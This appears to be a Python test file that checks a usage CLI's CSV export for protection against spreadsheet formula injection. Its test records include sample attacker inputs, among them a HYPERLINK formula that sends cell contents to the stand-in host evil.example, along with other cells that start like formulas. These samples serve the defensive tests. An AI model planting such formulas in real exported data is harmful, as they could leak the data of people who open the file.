"""CSV a spreadsheet cannot run (issue 27, C1): a text cell that starts like a formula
gets a leading `'`, numbers never do, `verify` reads both, `--exact` writes cells as sent.

Cells are read back with the csv module, as a program would, and checked for the guard.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from usage_cli.export import Checkpoint
from usage_cli.formats import Format
from usage_cli.query import Query
from usage_cli.sandbox.emulator import Emulator

from .conftest import TOKEN, Result, run_in_memory

DAY = 1_795_000_000_000
# What an attacker who can name a bot or set a meta value would send.
RECORDS: list[dict[str, Any]] = [
    {
        "id": "rec_1",
        "type": "=TYPE",
        "count": 3,
        "createdAt": DAY,
        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "description": "+1+1",
        "botId": "@SUM(1)",
        "meta": {"tab": "\tcmd", "cr": "\rcmd", "neg": -5, "text_neg": "-5", "calc": "-2+3"},
    },
    {
        "id": "rec_2",
        "type": "T",
        "count": 2,
        "createdAt": DAY - 1,
        "name": "'quoted already",
        "description": "plain",
        "meta": {"tab": "fine", "neg": 1, "text_neg": "+1.5e3", "calc": "a=b"},
    },
]
GUARDED = {
    "name": ["'" + RECORDS[0]["name"], "''quoted already"],
    "description": ["'+1+1", "plain"],
    "botId": ["'@SUM(1)", ""],
    "type": ["'=TYPE", "T"],
    "meta.tab": ["'\tcmd", "fine"],
    "meta.cr": ["'\rcmd", ""],
    "meta.neg": ["-5", "1"],  # numbers: untouched
    "meta.text_neg": ["-5", "+1.5e3"],  # text that is a plain number: no formula
    "meta.calc": ["'-2+3", "a=b"],
}
COLUMNS = ",".join(["id", *GUARDED])


def run(*args: str) -> Result:
    transport: httpx.MockTransport = Emulator(RECORDS, token=TOKEN).transport()
    base = ["--api-url", "http://127.0.0.1:9", "--token", TOKEN]
    return run_in_memory([*base, *args], transport=transport)


def cells(text: str) -> dict[str, list[str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {column: [row[column] for row in rows] for column in GUARDED}


def test_list_csv_guards_each_cell_that_starts_like_a_formula() -> None:
    result = run("list", "-o", "csv", "--columns", COLUMNS)
    assert result.code == 0, result.err
    assert cells(result.out) == GUARDED


def test_exact_writes_every_cell_as_sent() -> None:
    result = run("list", "-o", "csv", "--columns", COLUMNS, "--exact")
    assert result.code == 0, result.err
    sent = {
        column: [
            "" if value is None else str(value)
            for value in (
                record.get("meta", {}).get(column[5:])
                if column.startswith("meta.")
                else record.get(column)
                for record in RECORDS
            )
        ]
        for column in GUARDED
    }
    assert cells(result.out) == sent


def test_json_lines_stay_exact() -> None:
    result = run("list", "-o", "jsonl")
    assert [json.loads(line)["name"] for line in result.out.splitlines()] == [
        record["name"] for record in RECORDS
    ]


@pytest.mark.parametrize("exact", [False, True])
def test_an_export_says_whether_it_is_guarded_and_verifies_either_way(
    tmp_path: Path, exact: bool
) -> None:
    target = tmp_path / "usage.csv"
    flags = ["--exact"] if exact else []
    result = run("export", str(target), *flags)
    assert result.code == 0, result.err
    manifest = json.loads(Path(f"{target}.manifest.json").read_text())
    assert manifest["strings"] == {"exact": exact, "mended": 0, "formulasGuarded": not exact}
    # The figures are the API's own, guard or not: `=TYPE`, not `'=TYPE`.
    assert manifest["countByType"] == {"=TYPE": 3, "T": 2}
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert rows[0]["type"] == ("=TYPE" if exact else "'=TYPE")
    assert rows[0]["name"].startswith("=" if exact else "'=")
    verified = run("verify", str(target))
    assert verified.code == 0, verified.err


def test_taking_the_guard_off_by_hand_fails_verify(tmp_path: Path) -> None:
    target = tmp_path / "usage.csv"
    assert run("export", str(target)).code == 0
    target.write_text(target.read_text(encoding="utf-8").replace("'=", "="), encoding="utf-8")
    result = run("verify", str(target))
    assert result.code == 6
    assert "sha256" in result.out + result.err


def test_csv_parts_are_guarded_and_verify(tmp_path: Path) -> None:
    target = tmp_path / "parts"
    result = run("export", str(target), "--partition", "day", "-o", "csv")
    assert result.code == 0, result.err
    manifest = json.loads(Path(f"{target}.manifest.json").read_text())
    assert manifest["strings"]["formulasGuarded"] is True
    text = "".join(
        gzip.decompress((target / part["path"]).read_bytes()).decode() for part in manifest["parts"]
    )
    assert "'=HYPERLINK" in text
    assert run("verify", str(target)).code == 0


def test_a_resume_with_another_exact_is_refused() -> None:
    from datetime import UTC, datetime

    checkpoint = Checkpoint(
        query=Query().to_dict(),
        fmt=Format.csv,
        gzip=False,
        api={"url": "https://api.example", "runAs": None},
        target="usage.csv",
        started_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    api = checkpoint.api
    assert checkpoint.differences(Query(), Format.csv, False, api) == []
    assert checkpoint.differences(Query(), Format.csv, False, api, exact=True) == [
        "--exact (not used then, used now)"
    ]
    # A checkpoint from before the choice wrote text as sent: it resumes with --exact.
    data = checkpoint.to_json()
    del data["exact"]
    old = Checkpoint.from_text(json.dumps(data))
    assert old.differences(Query(), Format.csv, False, api, exact=True) == []
    assert old.differences(Query(), Format.csv, False, api) == ["--exact (used then, not now)"]


def test_a_page_is_asked_for_formula_marks_as_cell_by_cell_would() -> None:
    """One search over a page's text cells finds every cell that starts with a mark; a
    NUL inside a cell (the cells' separator in that search) may only add a false alarm."""
    import random

    from usage_cli.formats.csv import _FORMULA_STARTS, _may_start_formula

    pick = random.Random(24)
    letters = ["a", "1", ",", "\n", " ", "\x00", *_FORMULA_STARTS]
    for _ in range(3000):
        cells = [
            "".join(pick.choice(letters) for _ in range(pick.randint(0, 4)))
            for _ in range(pick.randint(0, 5))
        ]
        cell_by_cell = any(cell.startswith(_FORMULA_STARTS) for cell in cells)
        found = _may_start_formula("\x00".join(cells))
        assert found or not cell_by_cell, repr(cells)
        if not any("\x00" in cell for cell in cells):
            assert found == cell_by_cell, repr(cells)
